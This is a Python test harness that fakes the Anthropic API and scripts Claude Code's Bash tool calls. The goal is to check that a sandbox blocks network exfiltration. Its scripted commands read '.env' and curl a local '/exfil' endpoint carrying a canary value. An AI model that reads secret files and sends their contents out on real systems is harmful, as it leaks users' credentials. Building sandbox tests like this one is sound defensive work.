#!/usr/bin/env python3
"""A scripted stand-in for the Anthropic Messages API, for running the real
Claude Code CLI offline (ANTHROPIC_BASE_URL=http://127.0.0.1:PORT).

Standard library only. The main conversation (a request that offers the Bash
tool) follows a fixed script, one step per tool_result already in the
conversation:

    0 results -> tool_use Bash {"command": "ls"}
    1 result  -> tool_use Bash {"command": "cat README.md"}
    2 results -> tool_use Bash {"command": "cat .env"}
    3 results -> tool_use Bash {"command": "curl ... http://127.0.0.1:PORT/exfil..."}
                 (PORT: this server's; "{port}" in a --script command is it too)
    4+        -> text "done"

Every other request (title/topic side queries, count_tokens, probes of any
path with any method) gets a minimal valid answer at once, so the CLI never
stalls. Every request is logged as one JSON line (method, path, headers,
body) to --log.

    python3 fake_anthropic.py [--port N] [--port-file F] [--log F] [--script F]

--script F replaces the four commands with the JSON list of strings in F
(for exploring how the CLI wraps other commands).
"""

import argparse
import gzip
import itertools
import json
import os
import sys
import threading
import time
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

MODEL = "claude-sonnet-4-5-20250929"

SCRIPT = [
    ("ls", "List the files in the project"),
    ("cat README.md", "Read the README"),
    ("cat .env", "Read the environment file"),
    # A tool call that tries to reach this very server ({port}: its port)
    # from a tool's process: refused by warden's connect rule, however the
    # exec of curl was decided (the exfiltration case of the network issue).
    ("curl -s -m 5 http://127.0.0.1:{port}/exfil?d=canary", "Fetch a URL"),
]
PORT = [0]
FINAL_TEXT = "done"

_ids = itertools.count(1)
_log_lock = threading.Lock()


def next_id(prefix):
    return "%s_%024d" % (prefix, next(_ids))


def sse(event, data):
    return ("event: %s\ndata: %s\n\n" % (event, json.dumps(data, separators=(",", ":")))).encode()


def usage(inp=12, out=8):
    return {
        "input_tokens": inp,
        "output_tokens": out,
        "cache_creation_input_tokens": 0,
        "cache_read_input_tokens": 0,
    }


def count_tool_results(messages):
    n = 0
    for m in messages or []:
        content = m.get("content")
        if m.get("role") != "user" or not isinstance(content, list):
            continue
        for block in content:
            if isinstance(block, dict) and block.get("type") == "tool_result":
                n += 1
    return n


def offers_bash(req):
    for t in req.get("tools") or []:
        if isinstance(t, dict) and t.get("name") == "Bash":
            return True
    return False


def plan(req):
    """The content blocks and stop_reason for a /v1/messages request."""
    if offers_bash(req):
        step = count_tool_results(req.get("messages"))
        if step < len(SCRIPT):
            cmd, desc = SCRIPT[step]
            cmd = cmd.replace("{port}", str(PORT[0]))
            block = {
                "type": "tool_use",
                "id": next_id("toolu"),
                "name": "Bash",
                "input": {"command": cmd, "description": desc},
            }
            return [block], "tool_use", "main step %d: Bash %s" % (step, cmd)
        return [{"type": "text", "text": FINAL_TEXT}], "end_turn", "main final"
    # A side query (title, topic, summary...): a short answer. Some of them
    # ask for JSON, so the text is JSON that reads as a title too.
    text = '{"title": "List files", "isNewTopic": false}'
    return [{"type": "text", "text": text}], "end_turn", "side query"


def stream_body(req, blocks, stop_reason):
    msg_id = next_id("msg")
    out = [
        sse(
            "message_start",
            {
                "type": "message_start",
                "message": {
                    "id": msg_id,
                    "type": "message",
                    "role": "assistant",
                    "model": req.get("model") or MODEL,
                    "content": [],
                    "stop_reason": None,
                    "stop_sequence": None,
                    "usage": usage(out=1),
                },
            },
        ),
        sse("ping", {"type": "ping"}),
    ]
    for i, b in enumerate(blocks):
        if b["type"] == "text":
            out.append(
                sse(
                    "content_block_start",
                    {"type": "content_block_start", "index": i, "content_block": {"type": "text", "text": ""}},
                )
            )
            text = b["text"]
            half = max(1, len(text) // 2)
            for part in (text[:half], text[half:]):
                if part:
                    out.append(
                        sse(
                            "content_block_delta",
                            {"type": "content_block_delta", "index": i, "delta": {"type": "text_delta", "text": part}},
                        )
                    )
        else:
            out.append(
                sse(
                    "content_block_start",
                    {
                        "type": "content_block_start",
                        "index": i,
                        "content_block": {"type": "tool_use", "id": b["id"], "name": b["name"], "input": {}},
                    },
                )
            )
            js = json.dumps(b["input"], separators=(",", ":"))
            half = len(js) // 2
            for part in ("", js[:half], js[half:]):
                out.append(
                    sse(
                        "content_block_delta",
                        {
                            "type": "content_block_delta",
                            "index": i,
                            "delta": {"type": "input_json_delta", "partial_json": part},
                        },
                    )
                )
        out.append(sse("content_block_stop", {"type": "content_block_stop", "index": i}))
    out.append(
        sse(
            "message_delta",
            {
                "type": "message_delta",
                "delta": {"stop_reason": stop_reason, "stop_sequence": None},
                "usage": {"output_tokens": 20},
            },
        )
    )
    out.append(sse("message_stop", {"type": "message_stop"}))
    return b"".join(out)


def plain_body(req, blocks, stop_reason):
    return json.dumps(
        {
            "id": next_id("msg"),
            "type": "message",
            "role": "assistant",
            "model": req.get("model") or MODEL,
            "content": blocks,
            "stop_reason": stop_reason,
            "stop_sequence": None,
            "usage": usage(),
        }
    ).encode()


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "fake-anthropic/1"

    def log_message(self, fmt, *args):  # quiet: the JSON log has it all
        pass

    def _read_body(self):
        raw = b""
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            while True:
                size = int(self.rfile.readline().strip().split(b";")[0], 16)
                if size == 0:
                    self.rfile.readline()
                    break
                raw += self.rfile.read(size)
                self.rfile.readline()
        else:
            n = int(self.headers.get("Content-Length") or 0)
            raw = self.rfile.read(n) if n else b""
        enc = self.headers.get("Content-Encoding", "").lower()
        try:
            if enc == "gzip":
                raw = gzip.decompress(raw)
            elif enc == "deflate":
                raw = zlib.decompress(raw)
            elif enc == "br":
                pass  # not in the standard library; logged raw
        except Exception:
            pass
        return raw

    def _log(self, body, note):
        try:
            text = body.decode("utf-8")
            try:
                parsed = json.loads(text) if text else None
            except ValueError:
                parsed = text
        except UnicodeDecodeError:
            parsed = repr(body[:2000])
        rec = {
            "t": round(time.time(), 3),
            "method": self.command,
            "path": self.path,
            "headers": {k: v for k, v in self.headers.items() if k.lower() not in ("x-api-key", "authorization")},
            "note": note,
            "body": parsed,
        }
        with _log_lock:
            with open(self.server.log_path, "a") as f:
                f.write(json.dumps(rec) + "\n")

    def _send(self, code, body, ctype="application/json", extra=None):
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("request-id", next_id("req"))
        for k, v in (extra or {}).items():
            self.send_header(k, v)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)
        self.wfile.flush()

    def _handle(self):
        body = self._read_body() if self.command in ("POST", "PUT", "PATCH", "DELETE") else b""
        path = self.path.split("?", 1)[0]
        try:
            req = json.loads(body) if body else {}
            if not isinstance(req, dict):
                req = {}
        except ValueError:
            req = {}

        if self.command == "POST" and path.endswith("/v1/messages/count_tokens"):
            self._log(body, "count_tokens")
            return self._send(200, b'{"input_tokens": 12}')
        if self.command == "POST" and path.endswith("/v1/messages"):
            blocks, stop, note = plan(req)
            self._log(body, note + (" (stream)" if req.get("stream") else ""))
            if req.get("stream"):
                return self._send(
                    200,
                    stream_body(req, blocks, stop),
                    "text/event-stream; charset=utf-8",
                    {"Cache-Control": "no-cache"},
                )
            return self._send(200, plain_body(req, blocks, stop))
        # Anything else (probes, metrics, feature flags, OAuth-ish lookups):
        # an empty JSON object is valid enough and answers at once.
        self._log(body, "other")
        return self._send(200, b"{}")

    do_GET = do_POST = do_HEAD = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = _handle


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--port", type=int, default=0, help="0: an ephemeral port")
    ap.add_argument("--port-file", help="write the port here once listening")
    ap.add_argument("--log", default="fake_anthropic.log", help="one JSON line per request")
    ap.add_argument("--script", help="a JSON list of Bash commands to run instead of the default script")
    a = ap.parse_args()
    if a.script:
        with open(a.script) as f:
            SCRIPT[:] = [(c, "Run a command") for c in json.load(f)]

    srv = ThreadingHTTPServer(("127.0.0.1", a.port), Handler)
    srv.daemon_threads = True
    srv.log_path = os.path.abspath(a.log)
    port = srv.server_address[1]
    PORT[0] = port
    if a.port_file:
        tmp = a.port_file + ".tmp"
        with open(tmp, "w") as f:
            f.write("%d\n" % port)
        os.rename(tmp, a.port_file)
    print("fake_anthropic: listening on 127.0.0.1:%d, log %s" % (port, srv.log_path), file=sys.stderr, flush=True)
    try:
        srv.serve_forever()
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
